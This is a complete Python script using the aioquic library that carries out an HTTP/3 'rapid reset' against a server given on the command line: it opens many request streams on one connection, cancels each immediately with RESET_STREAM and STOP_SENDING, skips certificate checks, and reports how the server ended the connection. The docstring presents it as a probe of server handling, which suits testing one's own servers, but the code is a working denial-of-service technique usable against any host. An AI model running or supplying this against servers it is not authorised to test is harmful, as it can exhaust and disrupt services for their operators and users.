"""HTTP/3 rapid reset with aioquic: open many requests on one connection and cancel each at
once (RESET_STREAM and STOP_SENDING with H3_REQUEST_CANCELLED, as a browser cancels);
report how the server ended the connection."""
import asyncio
import ssl
import sys

from aioquic.asyncio.client import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.h3.connection import H3_ALPN, H3Connection
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.events import ConnectionTerminated

H3_REQUEST_CANCELLED = 0x010C


class Client(QuicConnectionProtocol):
    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.h3 = H3Connection(self._quic)
        self.terminated = asyncio.get_running_loop().create_future()

    def quic_event_received(self, event):
        if isinstance(event, ConnectionTerminated) and not self.terminated.done():
            self.terminated.set_result(event)
            return
        self.h3.handle_event(event)


async def main(addr, authority, count):
    ip, port = addr.rsplit(":", 1)
    cfg = QuicConfiguration(
        is_client=True, alpn_protocols=H3_ALPN, verify_mode=ssl.CERT_NONE, server_name=authority
    )
    headers = [
        (b":method", b"GET"),
        (b":scheme", b"https"),
        (b":authority", authority.encode()),
        (b":path", b"/"),
    ]
    sent = 0
    async with connect(ip, int(port), configuration=cfg, create_protocol=Client) as client:
        quic = client._quic
        for i in range(count):
            if client.terminated.done():
                break
            sid = quic.get_next_available_stream_id()
            client.h3.send_headers(sid, headers, end_stream=True)
            quic.reset_stream(sid, H3_REQUEST_CANCELLED)
            quic.stop_stream(sid, H3_REQUEST_CANCELLED)
            sent += 1
            if i % 16 == 0:
                client.transmit()
                # Let the server's stream credit and answers come back.
                await asyncio.sleep(0.005)
        client.transmit()
        try:
            event = await asyncio.wait_for(asyncio.shield(client.terminated), 10)
            print(f"sent={sent} closed error_code={event.error_code:#x} reason={event.reason_phrase}")
        except asyncio.TimeoutError:
            print(f"sent={sent} not-closed")


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], int(sys.argv[3])))
